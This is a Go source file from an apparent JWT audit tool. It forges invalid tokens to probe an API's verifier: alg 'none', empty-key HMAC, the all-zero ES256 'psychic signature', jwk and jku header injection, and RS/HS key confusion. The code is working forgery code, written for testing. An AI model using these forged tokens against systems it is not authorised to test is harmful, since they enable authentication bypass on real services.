package audit

import (
	"context"
	"crypto"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"net"
	"net/http"
	"strings"
	"sync/atomic"
	"time"

	"github.com/go-jose/go-jose/v4"
	"github.com/golang-jwt/jwt/v5"

	"authlab/flows"
	"authlab/flows/token"
)

var b64 = base64.RawURLEncoding

// forger builds the bad tokens of one run from the valid token.
type forger struct {
	r      *run
	cfg    *Config
	valid  string
	hdr    map[string]any
	claims map[string]any
	parts  []string
	sig    []byte

	fresh    crypto.Signer // a key nobody trusts, made once per run
	freshAlg string
	jku      *jkuServer

	issuerPub   crypto.PublicKey // the issuer's key for the token's kid
	issuerJWK   []byte
	issuerWhy   string // why it could not be had
	issuerTried bool

	checked, trusted bool
	signerWhy        string
}

func newForger(r *run) *forger {
	return &forger{r: r, cfg: &r.cfg, valid: strings.TrimSpace(r.cfg.Token), hdr: r.tok.Header,
		claims: r.tok.Claims, parts: r.tok.Parts, sig: r.tok.Signature}
}

func (f *forger) close() {
	if f.jku != nil {
		f.jku.close()
	}
}

func (f *forger) now() time.Time { return f.r.now() }

func (f *forger) str(name string) string {
	s, _ := f.hdr[name].(string)
	return s
}

func (f *forger) alg() string { return f.str("alg") }
func (f *forger) kid() string { return f.str("kid") }
func (f *forger) typ() string { return f.str("typ") }

// claimsCopy is a deep copy of the valid claims with a fresh jti, so an
// API that remembers jtis does not refuse a case as a replay.
func (f *forger) claimsCopy() map[string]any {
	b, _ := json.Marshal(f.claims)
	c, err := token.DecodeClaims(b)
	if err != nil {
		c = map[string]any{}
	}
	if _, ok := c["jti"]; ok {
		c["jti"] = token.NewJTI()
	}
	return c
}

func claimInt(c map[string]any, name string) (int64, bool) {
	t, ok := token.ClaimTime(c[name])
	if !ok {
		return 0, false
	}
	return t.Unix(), true
}

// lifetime is the valid token's exp - iat, or five minutes.
func (f *forger) lifetime() time.Duration {
	exp, ok1 := claimInt(f.claims, "exp")
	iat, ok2 := claimInt(f.claims, "iat")
	if !ok1 || !ok2 || exp <= iat {
		return 5 * time.Minute
	}
	return time.Duration(exp-iat) * time.Second
}

// setExpired makes c expire ago before now, keeping the valid lifetime.
func (f *forger) setExpired(c map[string]any, ago time.Duration) {
	exp := f.now().Add(-ago).Unix()
	iat := exp - int64(f.lifetime()/time.Second)
	c["exp"] = exp
	if _, ok := c["iat"]; ok {
		c["iat"] = iat
	}
	if _, ok := c["nbf"]; ok {
		c["nbf"] = iat
	}
	if _, ok := c["auth_time"]; ok {
		c["auth_time"] = iat
	}
}

// expiredBy is a trusted token that expired d seconds ago (leeway probes).
func (f *forger) expiredBy(ctx context.Context, d int64) (string, error) {
	c := f.claimsCopy()
	f.setExpired(c, time.Duration(d)*time.Second)
	return f.cfg.Signer.Sign(ctx, f.alg(), f.typ(), c)
}

// dropScope removes the required scope from scope and scp.
func (f *forger) dropScope(c map[string]any) {
	drop := f.cfg.RequireScope
	if s, ok := c["scope"].(string); ok {
		var keep []string
		for _, p := range strings.Fields(s) {
			if p != drop {
				keep = append(keep, p)
			}
		}
		c["scope"] = strings.Join(keep, " ")
	}
	switch v := c["scp"].(type) {
	case string:
		c["scp"] = strings.Join(strings.Fields(strings.ReplaceAll(" "+v+" ", " "+drop+" ", " ")), " ")
	case []any:
		var keep []any
		for _, e := range v {
			if e != drop {
				keep = append(keep, e)
			}
		}
		c["scp"] = keep
	}
}

// header is a copy of the valid header with edits; nil values delete.
func (f *forger) header(edits map[string]any) string {
	h := make(map[string]any, len(f.hdr)+len(edits))
	for k, v := range f.hdr {
		h[k] = v
	}
	for k, v := range edits {
		if v == nil {
			delete(h, k)
		} else {
			h[k] = v
		}
	}
	b, _ := json.Marshal(h)
	return b64.EncodeToString(b)
}

func (f *forger) stripped() string { return f.parts[0] + "." + f.parts[1] + "." }

func (f *forger) tampered() (string, error) {
	if len(f.sig) == 0 {
		return "", errors.New("the valid token has no signature to tamper with")
	}
	s := append([]byte(nil), f.sig...)
	s[len(s)/2] ^= 0x01
	return f.parts[0] + "." + f.parts[1] + "." + b64.EncodeToString(s), nil
}

func (f *forger) algNone() []variant {
	var vs []variant
	for _, a := range []string{"none", "None", "NONE", "nOnE"} {
		vs = append(vs, variant{name: "alg " + a, token: f.header(map[string]any{"alg": a}) + "." + f.parts[1] + "."})
	}
	return vs
}

// signWith signs header.payload with golang-jwt's method for alg.
func signWith(alg, hdr, payload string, key any) (string, error) {
	m := jwt.GetSigningMethod(alg)
	if m == nil {
		return "", fmt.Errorf("no signer for alg %s", alg)
	}
	input := hdr + "." + payload
	sig, err := m.Sign(input, key)
	if err != nil {
		return "", err
	}
	return input + "." + b64.EncodeToString(sig), nil
}

// hmacEmpty is HS256 with an empty key under the given kid.
func (f *forger) hmacEmpty(kid string) (string, error) {
	edits := map[string]any{"alg": "HS256", "kid": kid}
	if kid == "" {
		edits["kid"] = nil
	}
	return signWith("HS256", f.header(edits), f.parts[1], []byte{})
}

// psychic is ES256 with r = s = 0 (CVE-2022-21449). It is built by hand:
// golang-jwt and go-jose only produce real signatures, and 64 zero bytes
// is exactly the forgery a verifier that skips the 0 < r, s < n check
// accepts for any message and any key.
func (f *forger) psychic() string {
	return f.header(map[string]any{"alg": "ES256"}) + "." + f.parts[1] + "." + b64.EncodeToString(make([]byte, 64))
}

// freshKey is a key of the valid token's family that nobody trusts.
func (f *forger) freshKey() (crypto.Signer, string, error) {
	if f.fresh != nil {
		return f.fresh, f.freshAlg, nil
	}
	alg := f.alg()
	var err error
	switch {
	case alg == "ES256":
		f.fresh, err = ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	case alg == "ES384":
		f.fresh, err = ecdsa.GenerateKey(elliptic.P384(), rand.Reader)
	case alg == "EdDSA":
		_, f.fresh, err = ed25519.GenerateKey(rand.Reader)
	case strings.HasPrefix(alg, "RS") || strings.HasPrefix(alg, "PS"):
		f.fresh, err = rsa.GenerateKey(rand.Reader, 2048)
	default:
		alg = "RS256"
		f.fresh, err = rsa.GenerateKey(rand.Reader, 2048)
	}
	if err != nil {
		return nil, "", err
	}
	f.freshAlg = alg
	return f.fresh, alg, nil
}

func publicJWK(pub crypto.PublicKey, kid, alg string) (map[string]any, error) {
	b, err := jose.JSONWebKey{Key: pub, KeyID: kid, Algorithm: alg, Use: "sig"}.MarshalJSON()
	if err != nil {
		return nil, err
	}
	var m map[string]any
	return m, json.Unmarshal(b, &m)
}

// jwkInjection keeps the valid kid and embeds the fresh key as jwk.
func (f *forger) jwkInjection() (string, error) {
	key, alg, err := f.freshKey()
	if err != nil {
		return "", err
	}
	jwk, err := publicJWK(key.Public(), f.kid(), alg)
	if err != nil {
		return "", err
	}
	return signWith(alg, f.header(map[string]any{"alg": alg, "jwk": jwk}), f.parts[1], key)
}

func (f *forger) unknownKid() (string, error) {
	key, alg, err := f.freshKey()
	if err != nil {
		return "", err
	}
	return signWith(alg, f.header(map[string]any{"alg": alg, "kid": "authlab-audit-unknown-" + token.NewJTI()[:10]}), f.parts[1], key)
}

// jkuInjection points jku at a key set authlab serves on loopback for
// the run, holding the fresh key under the valid kid.
func (f *forger) jkuInjection() ([]variant, string) {
	key, alg, err := f.freshKey()
	if err != nil {
		return nil, "could not forge it: " + err.Error()
	}
	if f.jku == nil {
		jwk, err := publicJWK(key.Public(), f.kid(), alg)
		if err != nil {
			return nil, "could not forge it: " + err.Error()
		}
		doc, _ := json.Marshal(map[string]any{"keys": []any{jwk}})
		if f.jku, err = startJKU(doc); err != nil {
			return nil, "could not start the loopback JWKS server: " + err.Error()
		}
	}
	tok, err := signWith(alg, f.header(map[string]any{"alg": alg, "jku": f.jku.url}), f.parts[1], key)
	if err != nil {
		return nil, "could not forge it: " + err.Error()
	}
	remote := !IsLoopbackHost(f.r.target.Hostname())
	note := func() string {
		switch n := f.jku.fetches.Load(); {
		case n > 0:
			return fmt.Sprintf("the API fetched the jku key set (%d time(s))", n)
		case remote:
			return "the jku key set is on this machine's loopback, out of a remote API's reach: a refusal here proves little"
		}
		return "the API did not fetch the jku key set"
	}
	return []variant{{token: tok, note: note}}, ""
}

// hsPublicKey signs HS256 with the issuer's public key as the HMAC secret,
// in each encoding a confused verifier might use.
func (f *forger) hsPublicKey(ctx context.Context) ([]variant, string) {
	if why := f.loadIssuerKey(ctx); why != "" {
		return nil, why
	}
	hdr := f.header(map[string]any{"alg": "HS256"})
	type enc struct {
		name string
		key  []byte
	}
	var encs []enc
	if der, err := x509.MarshalPKIXPublicKey(f.issuerPub); err == nil {
		p := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
		encs = append(encs, enc{"SPKI PEM", p}, enc{"SPKI PEM without final newline", []byte(strings.TrimRight(string(p), "\n"))})
	}
	if rk, ok := f.issuerPub.(*rsa.PublicKey); ok {
		encs = append(encs, enc{"PKCS#1 PEM", pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: x509.MarshalPKCS1PublicKey(rk)})})
	}
	encs = append(encs, enc{"JWK JSON", f.issuerJWK})
	var vs []variant
	for _, e := range encs {
		tok, err := signWith("HS256", hdr, f.parts[1], e.key)
		if err != nil {
			return nil, "could not forge it: " + err.Error()
		}
		vs = append(vs, variant{name: e.name, token: tok})
	}
	return vs, ""
}

// loadIssuerKey finds the issuer's public key for the token's kid:
// Config.JWKS, Config.JWKSURL, or discovery from the token's iss.
func (f *forger) loadIssuerKey(ctx context.Context) string {
	if f.issuerTried {
		return f.issuerWhy
	}
	f.issuerTried = true
	fail := func(format string, args ...any) string {
		f.issuerWhy = "needs the issuer's public key: " + fmt.Sprintf(format, args...)
		return f.issuerWhy
	}
	doc := f.cfg.JWKS
	if doc == nil {
		c := flows.NewClient(flows.ClientOptions{Timeout: f.cfg.Timeout, TLSConfig: f.cfg.TLSConfig}, maskQuery{f.r.rec})
		u := f.cfg.JWKSURL
		if u == "" {
			iss, _ := f.claims["iss"].(string)
			if iss == "" {
				return fail("the token has no iss to discover it from; give the JWKS URL")
			}
			var err error
			if u, err = token.DiscoverJWKSURI(ctx, c, iss); err != nil {
				return fail("%s; give the JWKS URL", oneLine(err.Error()))
			}
		}
		resp, err := c.Get(ctx, "issuer JWKS", u, nil)
		if err != nil {
			return fail("%s", oneLine(err.Error()))
		}
		if resp.Status != http.StatusOK {
			return fail("%s answered HTTP %d", u, resp.Status)
		}
		doc = resp.Body
	}
	var set jose.JSONWebKeySet
	if err := json.Unmarshal(doc, &set); err != nil {
		return fail("the JWKS is not JSON: %v", err)
	}
	var pick *jose.JSONWebKey
	for i := range set.Keys {
		k := &set.Keys[i]
		if !k.IsPublic() && k.Public().Key == nil {
			continue
		}
		if f.kid() != "" && k.KeyID == f.kid() {
			pick = k
			break
		}
		if f.kid() == "" && pick == nil {
			pick = k
		}
	}
	if pick == nil {
		return fail("the JWKS has no key with kid %q", f.kid())
	}
	pub := pick.Public()
	f.issuerPub = pub.Key
	f.issuerJWK, _ = pub.MarshalJSON()
	return ""
}

// jkuServer is the loopback key set jku-injection points at; it lives for
// the run only.
type jkuServer struct {
	url     string
	srv     *http.Server
	fetches atomic.Int64
}

func startJKU(doc []byte) (*jkuServer, error) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	j := &jkuServer{url: "http://" + ln.Addr().String() + "/jwks.json"}
	j.srv = &http.Server{ReadHeaderTimeout: 5 * time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		j.fetches.Add(1)
		w.Header().Set("Content-Type", "application/json")
		w.Write(doc)
	})}
	go j.srv.Serve(ln)
	return j, nil
}

func (j *jkuServer) close() { j.srv.Close() }
